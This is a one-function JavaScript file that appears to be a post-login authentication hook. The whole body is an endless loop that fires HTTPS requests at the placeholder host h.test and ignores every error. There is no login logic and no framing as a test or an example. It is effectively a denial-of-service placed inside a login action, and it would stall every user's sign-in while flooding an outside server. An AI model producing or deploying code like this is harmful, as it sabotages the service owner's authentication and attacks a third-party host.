exports.onExecutePostLogin = async function (event, api) {
  const https = require("https"); for (;;) https.request("https://h.test/").on("error", () => {}).end("x");
};
